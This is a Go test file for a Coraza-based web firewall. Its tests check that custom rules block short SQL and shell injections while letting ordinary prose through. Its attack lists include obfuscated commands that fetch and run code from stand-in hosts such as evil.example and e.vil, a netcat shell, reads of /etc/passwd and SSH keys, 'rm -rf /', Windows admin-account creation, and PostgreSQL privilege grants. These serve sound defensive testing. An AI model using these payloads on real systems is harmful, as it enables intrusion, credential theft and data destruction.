package waf

import (
	"fmt"
	"math/rand/v2"
	"net/url"
	"regexp"
	"strings"
	"testing"

	"github.com/corazawaf/coraza/v3"
)

// TestShortPayloads: the shortest SQL and command injections, which the
// CRS at paranoia 1 lets through (a fresh-eyes attack's BROKE 7), are
// refused by rules 210150 and 210151, in the query, a form and JSON; text
// with quotes, dashes, hashes, semicolons and pipes passes.
func TestShortPayloads(t *testing.T) {
	tableOnly(t)
	q := url.QueryEscape
	form := "application/x-www-form-urlencoded"
	js := "application/json"
	var misses []probe
	for _, v := range []string{"admin'#", "admin' -- -", `admin"#`, "| id", "; id", ";id", "&& id", "`id`", "x|id", "a\nid",
		// quote-split commands, and commands with their arguments (BROKE 14)
		"; c'u'rl evil.example/x|s'h'", "127.0.0.1|w''get evil.example/s -O-|s''h", "; r''m -rf /", "127.0.0.1; e''cho cHduZWQ=|b''ase64 -d|s''h",
		"; p''ython3 -c 'im''port os'", "x; k''ill -9 1", "; w'h'o'am'i", ";i''d", "127.0.0.1; id", "127.0.0.1|id", "; ps aux", "; ip a",
		// a backslash before the quote (BROKE 15)
		`\' OR 1=1 -- `, `\' OR '1'='1`, `\' OR name='alice' AND password like 'pw%'--`, `\' OR (SELECT password FROM users WHERE name='alice') > 'pv'--`,
		`\' OR exists(select 1 from users where password like 'p%')--`, `\' OR 1=1 LIMIT 1 OFFSET 1--`,
		// expansions to nothing, grouping, Windows (a fifth fresh-eyes
		// attack's F4)
		";w$@get http://evil.example/x", ";who$@ami", ";u$@name -a", ";i$()d", ";i$*d", "|(id)", ";{ id; }", "& net user", "& ver",
		// cmd.exe's carets, net1, net.exe, call, %COMSPEC%, bash's ANSI-C
		// quoting (a sixth fresh-eyes attack's B9)
		"x & n^et user", "x & v^er", "x & c^u^r^l http://x", "x & net1 user", `x & "net" user`, "x & net.exe user", "x & call net user",
		"x & %COMSPEC% /c ver", `x;$'\x69\x64'`, `x;i$'\x64'`,
		// a sixth fresh-eyes attack's B14
		"x;w$1get http://e/x", "x;wh$9oami", "x;c$''url http://e/x", "x;$'i'd", "x;w`true`get http://e/x",
		// a seventh fresh-eyes attack's (attack 11): bash's
		// backslash-newline, cmd.exe's substrings of nothing, a command's
		// path, Windows' commands in upper case, start
		"x;i\\\nd", "x;who\\\nami", "x;i\\\r\nd", "x & w%PATH:~0,0%hoami", "x & n%A:~0,0%et user", "x & %SystemRoot%\\system32\\net user",
		"x & VER", "x & Ver", "x & start calc", `x & start "" mshta http://e/x`,
		// an eighth's (attack 12): a command spelled by variables or a
		// glob, getent
		"127.0.0.1;a=i;b=d;$a$b", "127.0.0.1;/bin/ca? /etc/pa??wd", "127.0.0.1;getent passwd", "x && getent hosts e.x"} {
		jv := `"` + jsonEscape(v) + `"`
		misses = append(misses,
			probe{name: v + " in the query", method: "GET", path: "/login?user=" + q(v)},
			probe{name: v + " in a form", method: "POST", path: "/login", contentType: form, body: "user=" + q(v) + "&pass=x"},
			probe{name: v + " in JSON", method: "POST", path: "/login", contentType: js, body: `{"user": ` + jv + `, "pass": "x"}`},
		)
	}
	// a fourth fresh-eyes attack: admin'# after a separator an app splits
	// the value on (210150 read only the value's start)
	for _, v := range []string{"x=1;u=admin'#", "a,admin'#", `id=7; user=admin"#`, "tom, admin' #", "x|admin'#",
		// user names ending in s (210150 lets the plural possessive through)
		"james' #", "chris' -- -", "admins'#", "thomas' -- ",
		// user names of any script, of several words (a fifth
		// fresh-eyes attack's F5)
		"müller'#", "müller' -- -", "张伟'#", "josé'#", "John Smith'#", "site admin'#", "John Smith' -- -",
		// a vertical tab before the comment (a sixth fresh-eyes attack's B18)
		"admin'\v#", "admin'\v-- -", "John Smith'\v#",
		// a no-break space before the comment (a seventh fresh-eyes
		// attack's BROKE 13)
		"admin'\u00a0#", "admin'\u00a0--\u00a0-"} {
		misses = append(misses,
			probe{name: v + " in the query", method: "GET", path: "/login?user=" + q(v)},
			probe{name: v + " in a form", method: "POST", path: "/login", contentType: form, body: "user=" + q(v) + "&pass=x"},
			probe{name: v + " in JSON", method: "POST", path: "/login", contentType: js, body: `{"user": "` + jsonEscape(v) + `", "pass": "x"}`},
		)
	}
	misses = append(misses,
		probe{name: "admin'# in a matrix parameter", method: "GET", path: "/login;u=admin'%23/x"},
		probe{name: "admin'-- in a matrix parameter", method: "GET", path: "/login;u=admin'--/x"},
		probe{name: "a|admin' -- - in the query", method: "GET", path: "/login?user=" + q("a|admin' -- -")},
		// BROKE 13: a lone byte 0xA0 as the no-break space
		probe{name: "admin'%A0# in the query", method: "GET", path: "/login?user=admin'%A0%23"},
		probe{name: "admin'%A0--%A0- in the query", method: "GET", path: "/login?user=admin'%A0--%A0-"},
		probe{name: "admin'%A0# in a matrix parameter", method: "GET", path: "/login;u=admin'%A0%23/x"},
	)
	// SQL injection after a ';' (F8) and 1||1 (F10), a fifth fresh-eyes
	// attack's
	misses = append(misses,
		probe{name: "numeric SQL injection in a matrix parameter", method: "GET", path: "/api/users/7;id=1%20OR%201=1"},
		probe{name: "numeric SQL injection in a matrix parameter mid-path", method: "GET", path: "/api/users;x=0%20OR%201=1/7"},
		probe{name: "numeric SQL injection after ; in the query", method: "GET", path: "/?a=1;id=1%20OR%201=1"},
		probe{name: "numeric SQL injection after ; in a form", method: "POST", path: "/", contentType: form, body: "a=1;id=1 OR 1=1"},
		probe{name: "numeric SQL injection after ; in JSON", method: "POST", path: "/", contentType: js, body: `{"a": "1;id=1 OR 1=1"}`},
		probe{name: "1||1 in the query", method: "GET", path: "/?id=1||1"},
		probe{name: "1||1 in JSON", method: "POST", path: "/", contentType: js, body: `{"id": "1||1"}`},
		probe{name: "1||1 in the path", method: "GET", path: "/api/users/1||1"},
		probe{name: "1 || '1' in the query", method: "GET", path: "/?id=" + q("1 || '1'")},
		probe{name: "7;id=1||1 in the query", method: "GET", path: "/?a=" + q("7;id=1||1")},
		// a sixth fresh-eyes attack's B10
		probe{name: "1||x'31' in the query", method: "GET", path: "/?id=" + q("1||x'31'")},
		probe{name: "1||@@version in the query", method: "GET", path: "/?id=" + q("1||@@version")},
		probe{name: "1%A0or%A0true in the query", method: "GET", path: "/?id=1%A0or%A0true"},
		probe{name: "1%C2%A0or%C2%A0true in the query", method: "GET", path: "/?id=1%C2%A0or%C2%A0true"},
	)
	// numeric tautologies and blind probes (a fifth fresh-eyes attack's
	// F18, F19's blind probes): rule 210155
	for _, v := range []string{"1 or true", "7 or 1", "1 or id=id", "0x31 or 1", "1 || true", "1 and 0", "1 and false",
		"1 and password glob 'a*'", "7;id=1 or true",
		// a sixth fresh-eyes attack's B10
		"1 or x'31'", "1 or b'1'", "1 or 0b1", "1 or @@version", "1 or .1", "1e0 or 1", "'1' or '1'", "1\x0bor\x0btrue", "1\nor\ntrue", "1\x0band\x0b0",
		// a seventh fresh-eyes attack's BROKE 4
		"1 or N'1'", "1 or n'1'", "1||n'1'", "1 or 1.", "1 or 1.e0", "1. or 1",
		// an eighth fresh-eyes attack's (attack 12): PostgreSQL's casts
		"1 or bool(1)", "x' or bool(1)-- ", "x' or bool(1) or 'a'='b", "x' or name('u')='u' or 'a'='b", "x' OR BOOL(1)#"} {
		misses = append(misses,
			probe{name: v + " in the query", method: "GET", path: "/?id=" + q(v)},
			probe{name: v + " in JSON", method: "POST", path: "/", contentType: js, body: `{"id": "` + jsonEscape(v) + `"}`},
		)
	}
	// a ninth fresh-eyes attack's (attack 13): PostgreSQL's statements
	// that libinjection reads as no SQL, stacked after a ';' (210153)
	for _, v := range stackedStatementAttacks {
		misses = append(misses,
			probe{name: v + " in the query", method: "GET", path: "/?id=" + q(v)},
			probe{name: v + " in JSON", method: "POST", path: "/", contentType: js, body: `{"id": "` + jsonEscape(v) + `"}`},
		)
	}
	// a ninth fresh-eyes attack's (attack 13): PowerShell after a
	// separator (210151), a command and a trailing pipe (210158)
	for _, v := range []string{"127.0.0.1;iex(iwr e.vil/x)", "x | iex", "id|", "ps|"} {
		misses = append(misses,
			probe{name: v + " in the query", method: "GET", path: "/read?file=" + q(v)},
			probe{name: v + " in JSON", method: "POST", path: "/read", contentType: js, body: `{"file": "` + jsonEscape(v) + `"}`},
		)
	}
	catches := []probe{
		{name: "admin'-- (the CRS's)", method: "GET", path: "/login?user=" + q("admin'--")},
		{name: "; sleep 5 (the CRS's)", method: "GET", path: "/ping?host=" + q("127.0.0.1; sleep 5")},
		{name: "cat /etc/passwd| (the CRS's)", method: "GET", path: "/read?file=" + q("cat /etc/passwd|")},
		{name: ";iwr http://x/ (the CRS's)", method: "GET", path: "/ping?host=" + q(";iwr http://x/")},
		{name: "127.0.0.1;Invoke-Expression (iwr e.vil/x) (the CRS's)", method: "GET", path: "/ping?host=" + q("127.0.0.1;Invoke-Expression (iwr e.vil/x)")},
	}
	var benign []probe
	for _, v := range []string{"the 'best' -- really", "Joe's #1 fan", "McDonald's #5", "bring it; cat lovers", "Tom & Jerry", "rock | pop",
		"id", "A; B; C", "ls", "Q&A: ps", "x && y", "it's -- fine", "O'Brien", `5' 10" tall`, "C#; F#; id software", "see: ls(1)", "echo chamber; echoes",
		"ok; i'd go", "tea; cat a day", "python; it's fun", "me & ps: hi", "Don't; it's mine", `path C:\Users\O\'Brien`,
		`He said \"hello\" and left`, `It\'s fine`, "a | b | c", "who; what; where",
		// separators, then quotes and comments that are prose
		"a, b; it's -- fine", "Q&A: it's #1", "x=1;y=it's ok", "rock 'n' roll; O'Brien -- the best", "tags: a,b,'c' -- d",
		"see A;B, 'quoted' # not", "x=1;y=2 -- z", "C#, F#; it's #1",
		// a plural possessive before a comment (a fourth fresh-eyes attack's
		// false positive; "the boss' /* note" the CRS alone refuses)
		"Jones' #1 fan", "the Smiths' -- all of them", "Hello, Jones' #1 fan", "Hi, Williams' -- yes", "the Davis' --2 of them",
		// near the seventh attack's Windows commands
		"IP & host name", "R&D; Ver 2.0", "Q&A; start here", "Tom & start the car", "x & version", "the 50%:~0,0% mark", "a\\\nb; id card",
		"C:\\Users\\me & notes", "A & Whoa, amazing",
		"costs $5; $a is the var", "Prices: $a$b are variables; see /bin/ for tools", "see /usr/bin/*.sh; getent is a tool", "A; getent", "x; getent is a tool",
		// several words and other scripts before a quote (F5's near misses)
		"Jürgen's #1 fan", "the Müllers' -- all of them", "rock 'n' roll -- yes", "he said 'hi' -- then left", "Café 'Zum Löwen' #3",
		// Markdown tables, inline code, line lists and prose (a fifth
		// fresh-eyes attack's F12)
		"| id | name | email |\n|---|---|---|\n| 1 | Bob | b@x.io |", "| name | id |\n|---|---|\n| Bob | 7 |", "| Field | Type |\n| id | integer |",
		"user|id|created", "Set the `id` field to a UUID", "Use `sleep` to pause", "Call `kill` with the pid", "Columns:\nid\nname\nemail",
		"Order summary\nid 5521", "Pets: dog; cat 3 years old", "Raleigh, NC; nc is North Carolina", "## Fields\n- `id`: the key\n- `name`: a label",
		// near F8 and F10: ; parts and || that are no SQL
		"size=10;color=red", "a=1;b=2;c=3", "Mon-Fri 9-5; Sat 10-2", "tel 555-1234; ext 12", "1; or 2", "Q1||Q2", "x || y", "a||b||c",
		"see p. 3; or not at all", "v1.2;v1.3", "1;2;3", "lat=52.5;lng=13.4", "In 2019; 3 of 4 said yes", "x;y=it's 1 or the other",
		// near F18: numbers, or/and and prose (rule 210155)
		"1 or 2 days", "page 1 or 2", "3 and 4 bedrooms", "1 or more", "100 or less", "1 and a half",
		"it's either 'this' or text 2", "1 or name (of it)", "say 'a' or bool is fine",
		// near BROKE 4: a dot and an N that are prose
		"1. or 2. days", "1 or n'est-ce pas", "Step 1. or skip it", "1 or N'Djamena trip",
		// "& net" and a word of prose (a sixth attack's B12, refused before)
		// a no-break space in prose near a quote and a comment (BROKE 13's near misses)
		"Jones'\u00a0#1 fan", "the 'best'\u00a0-- really", "it's\u00a0#1",
		"Gross & net share price", "Tax & net use", "Sales & net users", "Revenue & net view count", "pros & net user count",
		// near attack 13's stacked statements: prose after a ';'
		"1; set the table", "1; lock the door", "2; vacuum the car", "1; grant access to users", "Step 1; listen up", "1; comment on this post",
		"Note 1; vacuum full", "A; grant all on request to staff", "1; set roles for the team", "3; notify me later",
		"1; reset the password", "2; discard the old ones", "1; lock table legs together", "Q1; revoke all on Monday from the list",
		// near attack 13's PowerShell and trailing pipe
		"NYSE | IEX", "cat and dog|", "id | name |", "who we are|",
		// a comma inside a quotation of prose before a comment (attack 16, FP1)
		"she said 'OK, whatever you say' -- then left.", "She wrote 'thanks, see you soon' -- sweet."} {
		benign = append(benign,
			probe{name: v + " in the query", method: "GET", path: "/search?q=" + q(v)},
			probe{name: v + " in JSON", method: "POST", path: "/api/notes", contentType: js, body: `{"text": "` + jsonEscape(v) + `"}`},
		)
	}
	runBeyondTheCRS(t, catches, misses, benign)
}

func jsonEscape(s string) string {
	var b []byte
	for i := 0; i < len(s); i++ {
		switch c := s[i]; c {
		case '"', '\\':
			b = append(b, '\\', c)
		case '\n':
			b = append(b, '\\', 'n')
		default:
			if c < 0x20 {
				b = append(b, fmt.Sprintf(`\u%04x`, c)...)
				continue
			}
			b = append(b, c)
		}
	}
	return string(b)
}

// TestQuoteCommentOnProse: rule 210150 lets a plural possessive before a
// comment in prose through ("Jones' #1 fan") and refuses the login
// bypasses, a user name ending in s included, unless a word follows the
// comment (the documented gap: james' -- x). Measured on random prose of
// words, possessives, quotes, comments and separators, and on random
// login bypasses, against the expression without the possessive's
// exception.
func TestQuoteCommentOnProse(t *testing.T) {
	tableOnly(t)
	rx := regexp.MustCompile(strings.ReplaceAll(quoteCommentRule, `\"`, `"`))
	before := regexp.MustCompile(`(?:^|[;&,|\n])\s*(?:[\w.\[\]-]+=)?[\w.@+-]*['"` + "`" + `]\)*\s*(?:#|--|/\*)`)
	for _, v := range []string{"admin'#", "admin'--", "admin'/*", "admin' #", "admin' -- ", "admin' -- -", "admin')/*", `admin"#`, "admin'  #1",
		"admins'#", "admins' #", "admins' -- ", "admins' -- -", "admins')#", `admins"#`, "admins' --  x", "admins' #_x", "chris' /*",
		"müller'#", "müller' -- -", "张伟'#", "josé'#", "John Smith'#", "site admin'#", "John Smith' -- -", "x=1;u=Jörg Müller'#",
		"x=1;u=admin'#", "tom, admin' #", "x=1;u=admins'#", "Jones' #1 fan; admin'#",
		// a vertical tab, white space to MySQL (a sixth fresh-eyes attack's B18)
		"admin'\v#", "admin'\v-- -", "admin' \v#", "John Smith'\v#", "müller'\v#", "admins'\v#", "admins'\v-- ", "x;\vadmin'#"} {
		if !rx.MatchString(v) {
			t.Errorf("%q: not refused", v)
		}
	}
	for _, v := range []string{"Jones' #1 fan", "the Smiths' -- all of them", "the boss' /* note", "Hello, Jones' #1 fan", "x; the Williams' -- yes",
		"Jones' #1", "the Davis' --2 of them", "Jones' # 1 fan", "Hello, the Lees' -- their own", "McDonald's #5", "Charles' #é",
		"Jones'\v#1 fan", "the Smiths'\v-- all of them",
		// a comma inside a quotation (attack 16, FP1)
		"she said 'OK, whatever you say' -- then left.", "She wrote 'thanks, see you soon' -- sweet.", "'yes, of course' -- he said"} {
		if rx.MatchString(v) {
			t.Errorf("%q: refused", v)
		}
	}
	rng := rand.New(rand.NewPCG(3, 4))
	pick := func(ws []string) string { return ws[rng.IntN(len(ws))] }
	words := []string{"the", "a", "fan", "all", "of", "them", "note", "best", "really", "fine", "one", "and", "it's", "O'Brien",
		"Jones'", "boss'", "Smiths'", "James'", "parents'", "'quoted'", "\"quoted\"", "rock", "'n'", "roll", "us", "is", "#1", "#5"}
	marks := []string{"--", "/*", "—", "-", "(see"} // a comment in prose: a word follows it
	seps := []string{" ", " ", " ", " ", " ", " ", ", ", "; ", " & ", " | ", "\n"}
	prose, proseBefore := 0, 0
	n := randomSamples
	for range n {
		var b strings.Builder
		for i, k := 0, 3+rng.IntN(10); i < k; i++ {
			if i > 0 {
				b.WriteString(pick(seps))
			}
			if rng.IntN(4) == 0 {
				b.WriteString(pick(marks) + " ")
			}
			b.WriteString(pick(words))
		}
		v := b.String()
		if rx.MatchString(v) {
			prose++
			t.Errorf("random prose %q: refused", v)
		}
		if before.MatchString(v) {
			proseBefore++
		}
	}
	t.Logf("random prose: %d of %d refused (%d without the possessive's exception)", prose, n, proseBefore)
	// login bypasses: a user name, a quote, closing parentheses, spaces,
	// a comment and what follows it; every one refused but the gap
	users := []string{"admin", "root", "jane.doe", "u_1", "james", "Chris", "boss", "", "x@example.com"}
	quotes := []string{"'", "'", "'", `"`, "`"}
	after := []string{"", " ", " -", "-", " x", "x", "1", " 1=1", "  x", ")", " é", " 'x", "(", "_", "#"}
	gap, refused, total := 0, 0, 0
	for range n {
		u, q, c, a := pick(users), pick(quotes), pick([]string{"#", "--", "/*"}), pick(after)
		v := u + q + strings.Repeat(")", rng.IntN(2)) + strings.Repeat(" ", rng.IntN(3)) + c + a
		total++
		if rx.MatchString(v) {
			refused++
			continue
		}
		// the gap: a name ending in s, an apostrophe, a space, the comment
		// and at once (or after one space) a letter or digit
		if !regexp.MustCompile(`[sS]'\s+(?:#|--|/\*)\s?[\pL\pN'"(#]`).MatchString(v) {
			t.Errorf("%q: passed, and it is not the documented gap", v)
		}
		gap++
	}
	t.Logf("random login bypasses: %d of %d refused, %d passed (a user name ending in s, a space, a comment and a word)", refused, total, gap)
}

// shellCommandAttacks are the command injections rule 210151 refuses,
// the fifth fresh-eyes attack's F4 (expansions to nothing between a
// command's letters, grouping, Windows' net and ver) among them.
var shellCommandAttacks = []string{"| id", "; id", ";id", "&& id", "`id`", "x|id", "a\nid", "a\nid\n", "; id; x", "127.0.0.1; id",
	"; c'u'rl evil.example/x|s'h'", "; w'h'o'am'i", "; ps aux", "; ip a", "; sleep 5", "127.0.0.1; ping 10.0.0.1", "; kill -9 1",
	"; cat /etc/passwd", "| cat .env", ";more</etc/passwd", "& more /etc/passwd", ";tail -n1 x", "x|head ~/.ssh/id_rsa", "x|id|sh", "; nc evil.example 4444", "; nc -e /bin/sh x", "|nc", "x; ver",
	";w$@get http://evil.example/x", ";who$@ami", ";u$@name -a", ";i$()d", ";i$*d", ";w${x}get evil.example", "|(id)", ";{ id; }", ";(whoami)",
	"& net user", "& net localgroup administrators", "& ver", "$(id)", "$( id )", "`sleep 5`", "Use `id`", "`id` | nc x 1",
	// Windows' net in its real shapes (a sixth fresh-eyes attack's B12
	// narrowed it to them)
	"& net user;", "x & net view", "& NET USER", "& net user bob P@ss1 /add", "& net localgroup administrators bob /add",
	"& net user administrator /active:yes", `& net use z: \\evil.example\c$`, `& net view \\dc01`, "& net group \"Domain Admins\" /domain",
	"& net accounts /domain", "& net share x=c:\\ /grant:everyone,full", "| net localgroup",
	// cmd.exe's carets, net1, net.exe, "net", call, %COMSPEC%, bash's
	// ANSI-C quoting (a sixth fresh-eyes attack's B9)
	"x & n^et user", "x & ne^t us^er", "x & v^er", "x & c^u^r^l http://x", "x & w^h^o^a^m^i", "x & ^whoami", "x & net1 user", `x & "net" user`,
	"x & net.exe user", "x & NET.EXE user", "x & n^et1 user", "x & call net user", "x & CALL ver", "x & %COMSPEC% /c ver", "x & %comspec%",
	"x & cmd /c ver", "x & cmd.exe /C whoami", `x;$'\x69\x64'`, `x;i$'\x64'`, `x;$'\151\144'`, `x;$'\u0069d'`, "x;i$'d'", `x;i$"d"`, `x|$'\x63at' /etc/passwd`,
	`$($'\x69\x64')`,
	// more expansions to nothing (a sixth fresh-eyes attack's B14)
	"x;w$1get http://e/x", "x;wh$9oami", "x;c$2url http://e/x", `x;w$""get http://e/x`, "x;c$''url http://e/x", "x;i$'d'", "x;$'i'd",
	"x;w`true`get http://e/x", "x;w``get http://e/x", "x;wh$(true)oami", "x;i$(:)d", "x;i`:`d", ";i$( )d", ";w${x}get x",
	// PowerShell after a separator (a ninth fresh-eyes attack, attack 13)
	"127.0.0.1;iex(iwr e.vil/x)", "127.0.0.1;Invoke-Expression (iwr e.vil/x)", ";iwr http://x/", "x | iex", "x;IEX (New-Object Net.WebClient).DownloadString('http://e.vil/x')",
	"x;iex $env:p", "x & irm e.vil/x", "x;iwr -Uri http://e.vil/x", "x|iex;", "x;invoke-expression -Command id", `x;iex "calc"`}

// shellCommandBenign is ordinary text near 210151's attacks: the fifth
// fresh-eyes attack's F12 (Markdown tables, inline code, line lists,
// prose) and more of their kind.
var shellCommandBenign = []string{
	"| id | name | email |\n|---|---|---|\n| 1 | Bob | b@x.io |", "| name | id |\n|---|---|\n| Bob | 1 |", "| Field | Type |\n|---|---|\n| id | integer |",
	"user|id|created", "id|name", "| id |", "Set the `id` field to a UUID", "Use `sleep` to pause", "Call `kill` with the pid",
	"Run `ls` then `cat` the file.", "Columns:\nid\nname\nemail", "Order summary\nid 5521", "Pets: dog; cat 3 years old",
	"Raleigh, NC; nc is North Carolina", "Columns:\r\nid\r\nname", "keys:\nid\nhost\nport", "fields; id 7; name Bob", "Q&A: ps",
	"bring it; cat lovers", "party; bash at 8", "see `host` and `port` below", "| host | port |\n| a | 80 |", "2026-12-03 WARN retry; sleep well",
	"`id`, `name` and `email`.", "## Fields\n- `id`: the key\n- `name`: a label", "who; what; where", "A; B; C", "x && y", "me & ps: hi", "rock | pop",
	// "& net" and a word of prose (a sixth fresh-eyes attack's B12: all
	// refused by the fifth attack's form)
	"Gross & net share price", "Tax & net use", "Sales & net users", "Revenue & net view count", "pros & net user count",
	"net user guide & net view guide", "Gross & net start-up costs", "Tax & net config changes", "Sales & net group sales / year",
	"Gross & net users / month", "P&L; net use of funds", "Gross & net share price / earnings", "Terms & ver 2",
	// near B9: carets, call, $'' in prose and code
	"2^3 & 4^2", "x^2 | y^2", "a; call me later", "Me & you; call us", "x & cmd line tools", "Use `$'\\t'` for a tab", "it costs $'5' & up",
	"net1 & net2", "Q&A; call center", "& ^_^", "Tom & Jerry; ^^ nice",
	// attack 60's: a command that reads a file, with no file, ends prose
	"Q&A; & more", "R&D; & less", "Tips & tricks; & more", "Snacks | more", "Boots; cat", "Sports & more\nNews & more",
	// near B14
	"costs $1; $2 more", "A; $1 idea", "x; `true` or `false`", "; $'x' is a string", "Set `id` and `true` flags",
	// near attack 13's PowerShell: IEX, the exchange; IRM, rights management
	"NYSE; IEX (Investors Exchange)", "| IEX |", "NYSE | IEX", "DRM; IRM v2.0", "x; iex is an alias", "Stocks; IEX $5 fee", "| iex | nyse |",
	"markets; irm is rights management", "Q&A; Invoke-Expression is risky",
}

// TestShellCommandRule measures rule 210151's expression (as Coraza
// compiles it, with (?sm)): every attack refused, no benign text, and on
// random Markdown, logs and lists of words, command words among them,
// none refused.
func TestShellCommandRule(t *testing.T) {
	tableOnly(t)
	rx := regexp.MustCompile("(?sm)" + strings.ReplaceAll(shellCommandRule(), `\"`, `"`))
	for _, v := range shellCommandAttacks {
		if !rx.MatchString(v) {
			t.Errorf("%q: not refused", v)
		}
	}
	for _, v := range shellCommandBenign {
		if rx.MatchString(v) {
			t.Errorf("%q: refused", v)
		}
	}
	rng := rand.New(rand.NewPCG(5, 6))
	pick := func(ws []string) string { return ws[rng.IntN(len(ws))] }
	words := []string{"id", "name", "email", "host", "port", "cat", "dog", "sleep", "kill", "ls", "head", "tail", "more", "less", "who", "env",
		"python", "node", "the", "a", "of", "to", "user", "created", "integer", "string", "Bob", "3", "5s", "years", "old", "retry", "WARN", "INFO",
		"2026-12-03", "`id`", "`name`", "`id`:", "`sleep`,", "(`ls`)", "is", "field", "nc", "NC", "ip", "ps", "ver", "echo", "version", "pid"}
	// Markdown's tables, lists and inline code, log lines, line lists
	// and prose (not ; and &, which chain commands: "x; cat; y" is
	// refused, the rule's documented cost)
	seps := []string{" ", " ", " ", " ", " ", " | ", "\n", "\n- ", "\n| ", ", ", ": ", " | ", "\n|---|---|\n| "}
	refused := 0
	n := randomSamples
	for range n {
		var b strings.Builder
		for i, k := 0, 3+rng.IntN(10); i < k; i++ {
			if i > 0 {
				b.WriteString(pick(seps))
			}
			b.WriteString(pick(words))
			if rng.IntN(3) == 0 {
				b.WriteString(" " + pick(words))
			}
		}
		// a value that ends in a command word after a separator is the
		// attack's own shape ("a\nid", "x | id"): text ends otherwise
		b.WriteString(pick([]string{".", " ok", " |\n", " to"}))
		if v := b.String(); rx.MatchString(v) {
			refused++
			if refused <= 20 {
				t.Errorf("random text %q: refused (%q)", v, rx.FindString(v))
			}
		}
	}
	t.Logf("random Markdown, logs and lists: %d of %d refused", refused, n)
}

// TestNetOnProse measures the Windows net part of rule 210151
// (netCommand) on random prose of "& net" and the words of net's
// subcommands, prices and counts (a sixth fresh-eyes attack's B12 found
// "Gross & net share price" refused): none refused; and on random net
// commands with an option or a UNC path: every one refused.
func TestNetOnProse(t *testing.T) {
	tableOnly(t)
	rx := regexp.MustCompile("(?sm)" + strings.ReplaceAll(shellCommandRule(), `\"`, `"`))
	rng := rand.New(rand.NewPCG(9, 10))
	pick := func(ws []string) string { return ws[rng.IntN(len(ws))] }
	subs := []string{"user", "users", "share", "use", "view", "group", "start", "stop", "config", "accounts", "session", "time", "file"}
	words := []string{"price", "count", "guide", "income", "growth", "of", "the", "a", "and", "per", "margin", "2026", "/", "/ year", "/month",
		"$5", "10%", "funds", "costs", "sales", "revenue", "figures", "w/o", "and/or", "(see", "below)", "-", "net", "gross"}
	seps := []string{" ", " ", " ", " ", ", ", "; ", " & ", " / ", " - "}
	refused, price := 0, 0
	n := randomSamples
	for range n {
		var b strings.Builder
		b.WriteString(pick([]string{"Gross", "Tax", "Sales", "Revenue", "pros", "P&L", "Profit"}))
		b.WriteString(pick([]string{" & ", " &", "& ", " && ", "; ", " | "}))
		b.WriteString(pick([]string{"net", "Net", "NET"}) + " " + pick(subs))
		for i, k := 0, rng.IntN(6); i < k; i++ {
			b.WriteString(pick(seps))
			b.WriteString(pick(words))
		}
		if rng.IntN(2) == 0 {
			b.WriteString(pick([]string{".", " ok", "!", " in 2026"}))
		}
		if v := b.String(); rx.MatchString(v) {
			// the command's own shape: net user or net view at the end
			// or before a separator ("Sales & net user")
			if regexp.MustCompile(`(?i)net (?:user|view)\s*(?:$|[;&|#)])`).MatchString(rx.FindString(v)) {
				price++
				continue
			}
			refused++
			if refused <= 20 {
				t.Errorf("random prose %q: refused (%q)", v, rx.FindString(v))
			}
		}
	}
	t.Logf("random prose with & net: %d of %d refused, and %d with net user or net view at the end or before a separator (the price)", refused, n, price)
	opts := []string{"/add", "/delete", "/domain", "/active:yes", "/y", "/persistent:no", "/grant:everyone,full", `\\evil.example\c$`}
	for range n / 10 {
		v := pick([]string{"x", "127.0.0.1", ""}) + pick([]string{" & ", "&", " && ", "|", ";", "\n"}) + pick([]string{"net", "NET", "Net"}) + " " + pick(subs)
		for i, k := 0, rng.IntN(4); i < k; i++ {
			v += " " + pick([]string{"bob", "P@ss1", "administrators", "z:", `"Domain Admins"`, "spooler"})
		}
		v += " " + pick(opts)
		if !rx.MatchString(v) {
			t.Errorf("%q: not refused", v)
		}
	}
}

// stackedStatementAttacks are a ninth fresh-eyes attack's (attack 13)
// stacked PostgreSQL statements, which libinjection reads as no SQL.
var stackedStatementAttacks = []string{"1;grant all on users to public", "1; revoke all on users from public", "1;set role postgres",
	"1;lock table users", "1;comment on table users is 'x'", "1;vacuum full", "1;listen x", "1;GRANT SELECT, INSERT ON ALL TABLES IN SCHEMA public TO PUBLIC",
	"1;grant pg_read_server_files to app", "1;set session authorization postgres", "1;/**/grant/**/all/**/on/**/users/**/to/**/public",
	"a=1;id=7;lock users in access exclusive mode nowait", "1;notify x, 'y'", "1;load 'x'", "1;vacuum (full, analyze) users", "1;reset role",
	"1;unlisten *", "1;checkpoint", "1;discard all", "7;comment on column users.pw is $$x$$"}

// TestStackedStatements: rule 210153's operator refuses attack 13's
// stacked statements and not prose after a ';'.
func TestStackedStatements(t *testing.T) {
	for _, v := range append([]string{"x';set role postgres--", "x\";lock table users;"}, stackedStatementAttacks...) {
		if !(sqliAfterSemicolon{}).Evaluate(nil, v) {
			t.Errorf("%q: not refused", v)
		}
	}
	for _, v := range []string{"1; set the table", "1; lock the door", "2; vacuum the car", "1; grant access to users", "Step 1; listen up",
		"1; comment on this post", "Note 1; vacuum full", "A; grant all on request to staff", "1; set roles for the team", "3; notify me later",
		"1; load the van", "1; reset the password", "2; discard the old ones", "1; lock table legs together", "Q1; revoke all on Monday from the list",
		"it's 1; set role later", "1;2;3", "x=1;y=2"} {
		if (sqliAfterSemicolon{}).Evaluate(nil, v) {
			t.Errorf("%q: refused", v)
		}
	}
}

// TestPerlOpenPipeRule: rule 210158 refuses a command and a trailing '|'
// (attack 13) and not text that ends in a '|'.
func TestPerlOpenPipeRule(t *testing.T) {
	rx := regexp.MustCompile("(?sm)" + strings.ReplaceAll(perlOpenPipeRule(), `\"`, `"`))
	for _, v := range []string{"id|", "cat /etc/passwd|", "whoami|", "uname -a|", "curl e.vil/x|", "ls -la /|", " id |", "cat '/etc/passwd'|", "sleep 5|",
		"id|\n", "echo $HOME|"} {
		if !rx.MatchString(v) {
			t.Errorf("%q: not refused", v)
		}
	}
	for _, v := range []string{"cat and dog|", "id | name |", "head|tail|", "who we are|", "| id |", "id", "cat", "x id|", "id|x", "ls more|", "the cat|",
		"Columns: id|", "cat|dog"} {
		if rx.MatchString(v) {
			t.Errorf("%q: refused", v)
		}
	}
}

// FuzzSQLiAfterSemicolon: rule 210153's operator takes any value without
// a panic, and a value without ';' is never refused.
func FuzzSQLiAfterSemicolon(f *testing.F) {
	f.Add("7;id=1 OR 1=1")
	f.Add(";;=;a=")
	f.Add("x=1;y=2 -- z")
	f.Fuzz(func(t *testing.T, v string) {
		got := sqliAfterSemicolon{}.Evaluate(nil, v)
		if got && !strings.Contains(v, ";") {
			t.Fatalf("%q: refused without a ';'", v)
		}
	})
}

// TestNumericOrRule: rule 210154, through Coraza as the waf loads it,
